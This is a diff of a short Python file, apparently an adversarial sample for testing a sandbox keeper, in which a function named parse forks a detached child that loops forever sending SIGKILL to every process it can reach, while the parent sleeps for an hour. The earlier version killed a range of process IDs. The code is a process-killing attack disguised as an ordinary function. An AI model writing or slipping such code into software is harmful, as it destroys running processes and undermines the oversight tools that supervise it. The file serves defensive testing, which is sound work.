@@ -1,4 +1,4 @@
-"""timeout: stays, and a child kills whoever it may, without end
+"""crashed: a child kills everybody it can, without end, and so whoever comes to kill it
 
 Defence: keeper-can-not-be-shot
 """
@@ -10,14 +10,12 @@ import time
 from honest import *
 
 
-def total(numbers, note=""):
+def parse(text):
     if os.fork() == 0:
         os.setsid()
         while True:
-            for pid in range(2, 200):
-                if pid not in (os.getpid(), os.getppid()):
-                    try:
-                        os.kill(pid, signal.SIGKILL)
-                    except OSError:
-                        continue
+            try:
+                os.kill(-1, signal.SIGKILL)
+            except OSError:
+                continue
     time.sleep(3600)
